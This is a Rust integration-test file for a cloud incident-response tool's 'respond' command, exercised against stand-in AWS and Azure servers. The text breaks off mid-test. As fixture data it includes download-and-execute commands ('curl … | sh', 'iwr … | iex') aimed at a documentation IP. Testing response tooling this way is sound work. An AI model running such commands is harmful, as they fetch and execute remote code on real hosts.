//! `cadet respond`, end to end through the real binary.
//!
//! - AWS: moto server for IAM, EC2, Auto Scaling, STS and the SSM calls it has; the four SSM
//!   calls moto lacks (CancelCommand, ListCommandInvocations, TerminateSession,
//!   DescribeSessions) go to `tests/standin/ssm_proxy.py`, which checks their documented request
//!   shapes and forwards everything else to moto. For a SendCommand, a session and an
//!   access-key finding: plan → dry run (nothing changes) → execute (changed, verified) → a
//!   second execute (no call repeated) → restore (the world equals the one before, field by
//!   field, except what the plan says cannot be undone).
//! - Azure: `tests/standin/arm.py` checks method, path, api-version and body of each ARM and
//!   Graph request and records them; the tests assert the exact sequence, for a foreign-tenant
//!   caller and for a home-tenant service principal.
//! - Approvals: a signed request; forged, replayed and detector-identity approvals refused; a
//!   real one runs the plan once.
//! - A failed step stops its dependents, with audit records saying so.
#![cfg(feature = "respond")]

use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};

use serde_json::{json, Value};

mod common;
use common::{tmp, Tmp};

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn python() -> PathBuf {
    let p = repo().join(".venv/bin/python");
    assert!(p.exists(), "{} is missing: run `make venv`", p.display());
    p
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .unwrap_or_else(|e| panic!("{e}"))
}

/// A child process killed on drop.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts a stand-in script that prints `ready` once listening.
fn standin(script: &str, args: &[&str]) -> Server {
    let mut child = Command::new(python())
        .arg(repo().join("tests/standin").join(script))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap_or_else(|e| panic!("starting {script}: {e}"));
    let mut line = String::new();
    if let Some(out) = child.stdout.take() {
        let _ = BufReader::new(out).read_line(&mut line);
    }
    assert_eq!(line.trim(), "ready", "{script} did not start");
    Server(child)
}

fn moto() -> (Server, String) {
    let bin = repo().join(".venv/bin/moto_server");
    assert!(
        bin.exists(),
        "{} is missing: run `make venv`",
        bin.display()
    );
    let port = free_port();
    let child = Command::new(&bin)
        .args(["-H", "127.0.0.1", "-p", &port.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("starting moto: {e}"));
    let url = format!("http://127.0.0.1:{port}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(std::time::Instant::now() < deadline, "moto did not start");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    (Server(child), url)
}

fn world(cmd: &str, endpoint: &str) -> Value {
    let out = Command::new(python())
        .arg(repo().join("tests/standin/aws_world.py"))
        .args([cmd, endpoint])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        out.status.success(),
        "aws_world {cmd}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"))
}

/// One AWS test world: moto, the SSM stand-in in front of it, a state file and a policy.
struct Aws {
    _moto: Server,
    _proxy: Server,
    moto: String,
    ssm: String,
    ssm_log: PathBuf,
    ids: Value,
    dir: Tmp,
}

impl Aws {
    fn new(sessions: &[&str], stuck: bool) -> Aws {
        let (m, moto) = moto();
        let ids = world("seed", &moto);
        let dir = tmp("respond");
        let ssm_log = dir.join("ssm.jsonl");
        let port = free_port().to_string();
        let mut args = vec![
            "--port".to_string(),
            port.clone(),
            "--moto".into(),
            moto.clone(),
            "--log".into(),
            ssm_log.display().to_string(),
        ];
        for s in sessions {
            args.push("--session".into());
            args.push((*s).into());
        }
        if stuck {
            args.push("--stuck".into());
            args.push(ids["command_id"].as_str().unwrap_or_default().into());
        }
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let proxy = standin("ssm_proxy.py", &refs);
        let aws = Aws {
            _moto: m,
            _proxy: proxy,
            moto,
            ssm: format!("http://127.0.0.1:{port}"),
            ssm_log,
            ids,
            dir,
        };
        let policy = format!(
            "[response]\nmode = \"suggest\"\ncontainment_security_group = \"{}\"\n\
             untracking_security_group = \"{}\"\n\
             detector_identities = [\"{}\"]\nrestore_admins = [\"{}\"]\n",
            aws.ids["containment"].as_str().unwrap_or_default(),
            aws.ids["untrack"].as_str().unwrap_or_default(),
            aws.arn("cadet-detector"),
            aws.arn("restorer"),
        );
        std::fs::write(aws.dir.join("policy.toml"), policy).unwrap_or_else(|e| panic!("{e}"));
        aws
    }

    fn id(&self, k: &str) -> String {
        self.ids[k].as_str().unwrap_or_default().to_string()
    }

    fn arn(&self, user: &str) -> String {
        self.ids["users"][user]["arn"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }

    fn dump(&self) -> Value {
        world("dump", &self.moto)
    }

    /// `cadet respond ARGS…` with `user`'s credentials, the moto endpoints and the test's
    /// policy and state file (not yet run).
    fn command(&self, user: &str, args: &[&str]) -> Command {
        let u = &self.ids["users"][user];
        let mut c = Command::new(env!("CARGO_BIN_EXE_cadet"));
        c.arg("respond")
            .args(args)
            .args([
                "--policy",
                &self.dir.join("policy.toml").display().to_string(),
                "--state",
                &self.dir.join("state.redb").display().to_string(),
                "--verify-attempts",
                "2",
                "--verify-delay",
                "0",
            ])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.dir.path())
            .env("AWS_ACCESS_KEY_ID", u["key"].as_str().unwrap_or_default())
            .env(
                "AWS_SECRET_ACCESS_KEY",
                u["secret"].as_str().unwrap_or_default(),
            )
            .env("AWS_REGION", "eu-west-1")
            .env("AWS_ENDPOINT_URL", &self.moto)
            .env("AWS_ENDPOINT_URL_SSM", &self.ssm)
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("CADET_APPROVAL_KEY", "k3y-for-tests-only-0123456789abcdef");
        c
    }

    /// `cadet respond ARGS` with `user`'s credentials, run to the end.
    fn cadet(&self, user: &str, args: &[&str]) -> Output {
        self.command(user, args)
            .output()
            .unwrap_or_else(|e| panic!("{e}"))
    }

    /// Plans `finding`, writing the plan to `plan.json`; returns its path.
    fn plan(&self, finding: &Value) -> PathBuf {
        let f = self.dir.join("finding.json");
        std::fs::write(&f, finding.to_string()).unwrap_or_else(|e| panic!("{e}"));
        let out = self.cadet("responder", &["plan", &f.display().to_string(), "--json"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let p = self.dir.join("plan.json");
        std::fs::write(&p, &out.stdout).unwrap_or_else(|e| panic!("{e}"));
        p
    }

    fn ssm_calls(&self, op: &str) -> usize {
        std::fs::read_to_string(&self.ssm_log)
            .unwrap_or_default()
            .lines()
            .filter(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v["op"] == op))
            .count()
    }
}

/// The run report (stdout) of apply / approve / restore.
fn report(out: &Output) -> Value {
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.trim()).unwrap_or_else(|e| {
        panic!(
            "no run report ({e}): stdout {text:?} stderr {}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn statuses(r: &Value) -> Vec<(String, String)> {
    r["steps"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|s| {
                    (
                        s["step"].as_str().unwrap_or_default().to_string(),
                        s["status"].as_str().unwrap_or_default().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
    v.iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

fn finding(aws: &Aws, over: Value) -> Value {
    let mut f = json!({
        "finding_id": "5d1e0c3a9b8f7e6d5c4b3a2918070605",
        "event_id": "e-1",
        "event_time": "2026-12-06T03:12:00Z",
        "provider": "aws",
        "account": "123456789012",
        "region": "eu-west-1",
        "operation": "ssm:SendCommand",
        "action": "run_command",
        "principal": { "id": "arn:aws:iam::123456789012:role/OpsAdmin", "type": "assumed_role",
                       "session_name": "t.walker" },
        "targets": { "ids": [aws.id("instance")], "selector": null },
        "outcome": "success",
        "severity": "critical",
        "risk_score": 91,
        "signals": [{ "id": "action", "points": 20, "reason": "r" }],
        "command_id": aws.id("command_id"),
        "summary": "t.walker ran AWS-RunShellScript on one instance"
    });
    if let (Some(b), Some(o)) = (f.as_object_mut(), over.as_object()) {
        for (k, v) in o {
            b.insert(k.clone(), v.clone());
        }
    }
    f
}

#[test]
fn send_command_plan_dry_run_execute_verify_restore() {
    let aws = Aws::new(&[], false);
    let instance = aws.id("instance");
    let isolate = format!("isolate-{instance}");
    let plan = aws.plan(&finding(&aws, json!({})));
    let plan_s = plan.display().to_string();
    let before = aws.dump();

    // Dry run: everything read, nothing changed, nothing cancelled.
    let out = aws.cadet("responder", &["apply", &plan_s, "--include", &isolate]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(
        statuses(&r),
        pairs(&[
            ("capture-output", "dry_run"),
            ("cancel-command", "dry_run"),
            ("revoke-role-sessions", "dry_run"),
            (&isolate, "dry_run"),
        ])
    );
    assert_eq!(aws.dump(), before, "a dry run changed something");
    assert_eq!(aws.ssm_calls("CancelCommand"), 0);

    // The detector's own credentials never act.
    let out = aws.cadet("cadet-detector", &["apply", &plan_s, "--execute"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("detector's own identity"), "{err}");

    // Execute, with the optional isolation.
    let out = aws.cadet(
        "responder",
        &["apply", &plan_s, "--execute", "--include", &isolate],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    let run = r["run_id"].as_str().unwrap_or_default().to_string();
    assert_eq!(r["actor"], json!(aws.arn("responder")));
    assert_eq!(
        statuses(&r),
        pairs(&[
            ("capture-output", "applied"),
            ("cancel-command", "applied"),
            ("revoke-role-sessions", "applied"),
            (&isolate, "applied"),
        ])
    );
    let after = aws.dump();
    let revoke = &after["role_policies"]["cadet-revoke-5d1e0c3a"];
    assert_eq!(
        revoke["Statement"][0]["Condition"]["DateLessThan"]["aws:TokenIssueTime"],
        json!("2026-12-06T03:12:00Z")
    );
    assert_eq!(
        after["role_policies"]["ops"],
        before["role_policies"]["ops"]
    );
    assert_eq!(
        after["instance_groups"][&instance],
        json!([aws.id("containment")])
    );
    assert_eq!(after["asg"]["instances"], json!([]));
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
    // The evidence was kept before anything changed.
    let audit = aws.cadet("responder", &["audit", &run]);
    let audit = String::from_utf8_lossy(&audit.stdout).to_string();
    assert!(
        audit.contains("curl -s http://203.0.113.7/x | sh")
            || audit.contains("StandardOutputContent"),
        "{audit}"
    );
    for phase in ["\"snapshot\"", "\"act\"", "\"verify\""] {
        assert!(
            audit.contains(phase),
            "{phase} missing from the audit: {audit}"
        );
    }

    // A second apply does nothing.
    let out = aws.cadet(
        "responder",
        &["apply", &plan_s, "--execute", "--include", &isolate],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let again = report(&out);
    assert!(
        statuses(&again).iter().all(|(_, s)| s == "already_applied"),
        "{again}"
    );
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
    assert_eq!(aws.dump(), after);

    // Restore: only a restore admin.
    let out = aws.cadet("responder", &["restore", &run]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("restore_admins"));
    let out = aws.cadet("restorer", &["restore", &run]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        statuses(&report(&out)),
        pairs(&[
            (&isolate, "restored"),
            ("revoke-role-sessions", "restored"),
            ("cancel-command", "not_reversible"),
            ("capture-output", "restored"),
        ])
    );
    // Field by field, the world is as it was (the command stays cancelled: not reversible).
    assert_eq!(aws.dump(), before);
    // A second restore has nothing left to do.
    let out = aws.cadet("restorer", &["restore", &run]);
    assert!(out.status.success());
    assert!(
        statuses(&report(&out))
            .iter()
            .all(|(_, s)| s == "nothing_to_restore" || s == "not_reversible"),
        "{}",
        report(&out)
    );
    assert_eq!(aws.dump(), before);
}

#[test]
fn session_and_access_key_findings_round_trip() {
    let session = "j.morales-0c3f6c7843c763cad";
    let aws = Aws::new(&[session], false);
    let key = aws.ids["users"]["j.morales"]["key"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let user = json!({ "id": "arn:aws:iam::123456789012:user/j.morales", "type": "iam_user",
                       "access_key_id": key });
    let before = aws.dump();

    // A Session Manager session by an IAM user with a long-term key.
    let f = finding(
        &aws,
        json!({ "operation": "ssm:StartSession", "action": "session", "command_id": session,
                "principal": user }),
    );
    let plan = aws.plan(&f).display().to_string();
    let isolate = format!("isolate-{}", aws.id("instance"));
    let out = aws.cadet("responder", &["apply", &plan]);
    assert_eq!(
        statuses(&report(&out)),
        pairs(&[
            ("terminate-session", "dry_run"),
            ("deactivate-access-key", "dry_run"),
            (&isolate, "not_included")
        ])
    );
    assert_eq!(aws.ssm_calls("TerminateSession"), 0);
    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(
        statuses(&r),
        pairs(&[
            ("terminate-session", "applied"),
            ("deactivate-access-key", "applied"),
            (&isolate, "not_included")
        ])
    );
    let run = r["run_id"].as_str().unwrap_or_default().to_string();
    assert_eq!(
        aws.dump()["access_keys"]["j.morales"][&key],
        json!("Inactive")
    );
    // Verified by listing the active sessions, not by TerminateSession's answer.
    assert_eq!(aws.ssm_calls("TerminateSession"), 1);
    assert!(aws.ssm_calls("DescribeSessions") >= 2);
    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
    assert!(statuses(&report(&out))
        .iter()
        .all(|(_, s)| s == "already_applied" || s == "not_included"));
    assert_eq!(aws.ssm_calls("TerminateSession"), 1);
    let out = aws.cadet("restorer", &["restore", &run]);
    assert_eq!(
        statuses(&report(&out)),
        pairs(&[
            (&isolate, "nothing_to_restore"),
            ("deactivate-access-key", "restored"),
            ("terminate-session", "not_reversible")
        ])
    );
    assert_eq!(aws.dump(), before);

    // An access-key finding: the same user shared a command document with another account.
    let f = finding(
        &aws,
        json!({ "finding_id": "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
                "operation": "ssm:ModifyDocumentPermission", "action": "command_document",
                "command_id": null, "document": aws.id("document"), "targets": { "ids": [] },
                "principal": user }),
    );
    let plan = aws.plan(&f).display().to_string();
    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert_eq!(
        statuses(&r),
        pairs(&[
            ("stop-sharing-document", "applied"),
            ("deactivate-access-key", "applied")
        ])
    );
    let mid = aws.dump();
    assert_eq!(mid["document_shared_with"], json!([]));
    assert_eq!(mid["access_keys"]["j.morales"][&key], json!("Inactive"));
    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
    assert!(statuses(&report(&out))
        .iter()
        .all(|(_, s)| s == "already_applied"));
    let run = r["run_id"].as_str().unwrap_or_default().to_string();
    let out = aws.cadet("restorer", &["restore", &run]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(aws.dump(), before);
}

#[test]
fn a_failed_step_stops_its_dependents_and_says_so() {
    // The command keeps running after CancelCommand (a process that ignores it).
    let aws = Aws::new(&[], true);
    let plan = aws.plan(&finding(&aws, json!({})));
    let out = aws.cadet(
        "responder",
        &["apply", &plan.display().to_string(), "--execute"],
    );
    assert_eq!(out.status.code(), Some(1));
    let r = report(&out);
    assert_eq!(
        statuses(&r),
        pairs(&[
            ("capture-output", "applied"),
            ("cancel-command", "unverified"),
            ("revoke-role-sessions", "applied"),
            (&format!("isolate-{}", aws.id("instance")), "not_included"),
        ])
    );
    // An unknown command: the capture fails, so the cancel that depends on it never runs.
    let plan = aws.plan(&finding(
        &aws,
        json!({ "finding_id": "ffff0000ffff0000ffff0000ffff0000",
                "command_id": "00000000-0000-4000-8000-000000000000" }),
    ));
    let out = aws.cadet(
        "responder",
        &["apply", &plan.display().to_string(), "--execute"],
    );
    assert_eq!(out.status.code(), Some(1));
    let r = report(&out);
    let st = statuses(&r);
    assert_eq!(st[0], ("capture-output".to_string(), "failed".to_string()));
    assert_eq!(st[1], ("cancel-command".to_string(), "skipped".to_string()));
    let run = r["run_id"].as_str().unwrap_or_default().to_string();
    let audit = aws.cadet("responder", &["audit", &run]);
    let records: Vec<Value> = String::from_utf8_lossy(&audit.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let of = |step: &str| {
        records
            .iter()
            .filter(|r| r["step"] == step)
            .map(|r| {
                (
                    r["phase"].as_str().unwrap_or("").to_string(),
                    r["result"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(of("capture-output"), pairs(&[("snapshot", "failed")]));
    assert_eq!(of("cancel-command"), pairs(&[("skip", "skipped")]));
    assert!(records.iter().any(|r| r["step"] == "cancel-command"
        && r["detail"]
            .as_str()
            .is_some_and(|d| d.contains("depends on capture-output"))));
    assert_eq!(
        records.last().map(|r| r["result"].clone()),
        Some(json!("failed"))
    );
}

#[test]
fn approvals_are_signed_expiring_and_used_once() {
    let aws = Aws::new(&[], false);
    let plan = aws.plan(&finding(&aws, json!({})));
    let plan_s = plan.display().to_string();
    let out = aws.cadet("cadet-detector", &["request", &plan_s]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let token = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(token.matches('.').count(), 1, "{token}");

    // Forged: the same request signed with another key.
    let forged = Command::new(env!("CARGO_BIN_EXE_cadet"))
        .args([
            "respond",
            "request",
            &plan_s,
            "--issued-by",
            &aws.arn("cadet-detector"),
        ])
        .env("CADET_APPROVAL_KEY", "another-key-another-key-another-key!")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let forged = String::from_utf8_lossy(&forged.stdout).trim().to_string();
    let out = aws.cadet("responder", &["approve", &plan_s, "--token", &forged]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not verify"));
    // The detector approving its own request.
    let out = aws.cadet("cadet-detector", &["approve", &plan_s, "--token", &token]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("detector's own identity"));
    assert_eq!(aws.ssm_calls("CancelCommand"), 0);
    // A real approval runs the plan once.
    let out = aws.cadet("responder", &["approve", &plan_s, "--token", &token]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    assert!(statuses(&r)
        .iter()
        .any(|(s, st)| s == "cancel-command" && st == "applied"));
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
    // Replayed, by the same or another approver.
    for who in ["responder", "restorer"] {
        let out = aws.cadet(who, &["approve", &plan_s, "--token", &token]);
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("already used"), "{err}");
    }
    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
    // The refusals are in the audit trail.
    let audit = aws.cadet("responder", &["audit", "approvals"]);
    let audit = String::from_utf8_lossy(&audit.stdout).to_string();
    assert_eq!(audit.matches("\"refuse\"").count(), 4, "{audit}");
    assert_eq!(audit.matches("\"approve\"").count(), 1, "{audit}");
}

// ---------------------------------------------------------------------------------------------
// Azure

const SUB: &str = "00000000-1111-2222-3333-444444444444";

fn vm() -> String {
    format!("/subscriptions/{SUB}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql-01")
}

fn assignment(name: &str) -> String {
    format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleAssignments/{name}")
}

/// A fake Entra token whose `oid` names the responder (the stand-in only checks it is a bearer
/// token; ARM would check the signature).
fn token(oid: &str) -> String {
    use base64::Engine;
    let e = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    format!(
        "{}.{}.sig",
        e.encode(br#"{"alg":"none"}"#),
        e.encode(json!({ "oid": oid }).to_string())
    )
}

struct Arm {
    _server: Server,
    url: String,
    log: PathBuf,
    dir: Tmp,
}

impl Arm {
    fn new() -> Arm {
        let dir = tmp("respond-arm");
        let rc = format!("{}/runCommands/rc-hotfix", vm());
        let seed = json!({
            "resources": {
                rc.clone(): { "id": rc, "name": "rc-hotfix", "location": "westeurope",
                    "properties": { "source": { "script": "iwr http://203.0.113.7/a.ps1 | iex" },
                                    "asyncExecution": false, "provisioningState": "Succeeded" } },
                assignment("a1"): { "id": assignment("a1"), "name": "a1", "properties": {
                    "roleDefinitionId": format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"),
                    "principalId": "11111111-2222-3333-4444-555555555555", "principalType": "ForeignGroup",
                    "scope": format!("/subscriptions/{SUB}") } },
                assignment("a2"): { "id": assignment("a2"), "name": "a2", "properties": {
                    "roleDefinitionId": format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"),
                    "principalId": "66666666-7777-8888-9999-000000000000", "principalType": "User",
                    "scope": format!("/subscriptions/{SUB}") } }
            },
            "graph": {
                "servicePrincipals": { "8fce7839-280f-49b9-9eed-ad76438d9219": { "accountEnabled": true } },
                "users": {}
            },
            "bastionLinks": {
                bastion(): [
                    { "vm": { "id": vm() }, "bsl": "https://bst-0a1b.bastion.azure.com/api/shareable-url/secret-1", "createdAt": "2026-10-04T01:52:10Z" },
                    { "vm": { "id": format!("{}-2", vm()) }, "bsl": "https://bst-0a1b.bastion.azure.com/api/shareable-url/secret-2", "createdAt": "2026-10-04T01:52:10Z" },
                    { "vm": { "id": format!("{}-9", vm()) }, "bsl": "https://bst-0a1b.bastion.azure.com/api/shareable-url/other", "createdAt": "2026-09-01T10:00:00Z" }
                ]
            }
        });
        let seed_path = dir.join("seed.json");
        std::fs::write(&seed_path, seed.to_string()).unwrap_or_else(|e| panic!("{e}"));
        let log = dir.join("arm.jsonl");
        let port = free_port().to_string();
        let server = standin(
            "arm.py",
            &[
                "--port",
                &port,
                "--seed",
                &seed_path.display().to_string(),
                "--log",
                &log.display().to_string(),
            ],
        );
        let policy = "[response]\nmode = \"approve\"\nrestore_admins = [\"aaaaaaaa-0000-0000-0000-00000000ad01\"]\n\
                      detector_identities = [\"dddddddd-0000-0000-0000-0000000000de\"]\n";
        std::fs::write(dir.join("policy.toml"), policy).unwrap_or_else(|e| panic!("{e}"));
        Arm {
            _server: server,
            url: format!("http://127.0.0.1:{port}"),
            log,
            dir,
        }
    }

    fn cadet(&self, oid: &str, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_cadet"))
            .arg("respond")
            .args(args)
            .args([
                "--policy",
                &self.dir.join("policy.toml").display().to_string(),
                "--state",
                &self.dir.join("state.redb").display().to_string(),
                "--verify-attempts",
                "1",
                "--verify-delay",
                "0",
            ])
            .env("CADET_ARM_ENDPOINT", &self.url)
            .env("CADET_GRAPH_ENDPOINT", &self.url)
            .env("CADET_ARM_TOKEN", token(oid))
            .env("CADET_GRAPH_TOKEN", token(oid))
            .output()
            .unwrap_or_else(|e| panic!("{e}"))
    }

    /// The requests since `from`: (method, path, api-version).
    fn calls(&self, from: usize) -> Vec<(String, String, String)> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .skip(from)
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .map(|v| {
                (
                    v["method"].as_str().unwrap_or("").to_string(),
                    v["path"].as_str().unwrap_or("").to_string(),
                    v["api_version"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect()
    }

    fn plan(&self, finding: &Value) -> String {
        let f = self.dir.join("finding.json");
        std::fs::write(&f, finding.to_string()).unwrap_or_else(|e| panic!("{e}"));
        let out = self.cadet(RESPONDER, &["plan", &f.display().to_string(), "--json"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let p = self.dir.join("plan.json");
        std::fs::write(&p, &out.stdout).unwrap_or_else(|e| panic!("{e}"));
        p.display().to_string()
    }
}

const RESPONDER: &str = "bbbbbbbb-0000-0000-0000-0000000000b0";
const ADMIN: &str = "aaaaaaaa-0000-0000-0000-00000000ad01";

fn c(m: &str, p: &str, v: &str) -> (String, String, String) {
    (m.into(), p.into(), v.into())
}

#[test]
fn azure_foreign_tenant_caller_exact_sequence() {
    let arm = Arm::new();
    let f = json!({
        "finding_id": "651cb47cf2e4a0578f5ef7a7327d21a5", "event_time": "2026-10-03T01:36:12Z",
        "provider": "azure", "account": SUB, "region": null,
        "operation": "Microsoft.Compute/virtualMachines/runCommands/write",
        "action": "managed_run_command", "document": "rc-hotfix", "outcome": "success",
        "principal": { "id": "66666666-7777-8888-9999-000000000000", "type": "azure_user",
                       "name": "admin@partner-csp.onmicrosoft.com",
                       "tenant": "99999999-8888-7777-6666-555555555555" },
        "targets": { "ids": [vm()] }, "severity": "critical",
        "signals": [{ "id": "foreign_tenant_caller" }, { "id": "delegated_admin" }]
    });
    let plan = arm.plan(&f);
    let text = std::fs::read_to_string(&plan).unwrap_or_default();
    assert!(text.contains("revokeSignInSessions does nothing"), "{text}");
    assert!(!text.contains("revoke-user-sessions"), "{text}");

    let out = arm.cadet(
        "dddddddd-0000-0000-0000-0000000000de",
        &["apply", &plan, "--execute"],
    );
    assert!(!out.status.success(), "the detector's identity acted");
    assert_eq!(arm.calls(0), vec![]);

    let out = arm.cadet(RESPONDER, &["apply", &plan, "--execute"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = report(&out);
    let rc = format!("{}/runCommands/rc-hotfix", vm());
    let list = format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleAssignments");
    assert_eq!(
        arm.calls(0),
        vec![
            c("GET", &rc, "2024-07-01"),
            c("DELETE", &rc, "2024-07-01"),
            c("GET", &rc, "2024-07-01"),
            c("GET", &list, "2022-04-01"),
            c("DELETE", &assignment("a1"), "2022-04-01"),
            c("DELETE", &assignment("a2"), "2022-04-01"),
            c("GET", &list, "2022-04-01"),
        ]
    );
    let n = arm.calls(0).len();
    let run = r["run_id"].as_str().unwrap_or_default().to_string();
    let out = arm.cadet(RESPONDER, &["restore", &run]);
    assert!(!out.status.success(), "a responder restored");
    let out = arm.cadet(ADMIN, &["restore", &run]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        arm.calls(n),
        vec![
            c("PUT", &assignment("a1"), "2022-04-01"),
            c("PUT", &assignment("a2"), "2022-04-01"),
            c("PUT", &rc, "2024-07-01"),
        ]
    );
    // The run command came back as it was.
    let log = std::fs::read_to_string(&arm.log).unwrap_or_default();
    let put = log
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["method"] == "PUT" && v["path"] == json!(rc))
        .unwrap_or_default();
    assert_eq!(
        put["body"]["properties"]["source"]["script"],
        json!("iwr http://203.0.113.7/a.ps1 | iex")
    );
}

#[test]
fn azure_service_principal_is_disabled_and_enabled_again() {
    let arm = Arm::new();
    let f = json!({
        "finding_id": "8e4b97cb93f5eef95545182c6becc385", "event_time": "2026-10-04T04:12:33Z",
        "provider": "azure", "account": SUB,
        "operation": "Microsoft.Compute/virtualMachines/runCommand/action",
        "action": "run_command", "outcome": "success",
        "principal": { "id": "8fce7839-280f-49b9-9eed-ad76438d9219", "type": "service_principal",
                       "tenant": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee" },
        "targets": { "ids": [vm()] }, "severity": "high", "signals": []
    });
    let plan = arm.plan(&f);
    let out = arm.cadet(RESPONDER, &["apply", &plan, "--execute"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sp = "/v1.0/servicePrincipals/8fce7839-280f-49b9-9eed-ad76438d9219";
    assert_eq!(
        arm.calls(0),
        vec![c("GET", sp, ""), c("PATCH", sp, ""), c("GET", sp, "")]
    );
    let run = report(&out)["run_id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let out = arm.cadet(ADMIN, &["restore", &run]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let log: Vec<Value> = std::fs::read_to_string(&arm.log)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let patches: Vec<&Value> = log
        .iter()
        .filter(|v| v["method"] == "PATCH")
        .map(|v| &v["body"])
        .collect();
    assert_eq!(
        patches,
        vec![
            &json!({ "accountEnabled": false }),
            &json!({ "accountEnabled": true })
        ]
    );
}

fn bastion() -> String {
    format!("/subscriptions/{SUB}/resourceGroups/rg-hub-network/providers/Microsoft.Network/bastionHosts/bas-hub")
}

/// A Bastion shareable link: the links to the two VMs the event named are deleted (the third,
/// to another VM, stays), verified gone, and the URLs never reach the journal.
#[test]
fn azure_shareable_links_are_deleted_verified_and_their_urls_never_kept() {
    let arm = Arm::new();
    let vms = [vm(), format!("{}-2", vm())];
    let f = json!({
        "finding_id": "0c7e5a2b9d4f1e3a8b6c0d2e4f6a8b1c", "event_time": "2026-10-04T01:52:09Z",
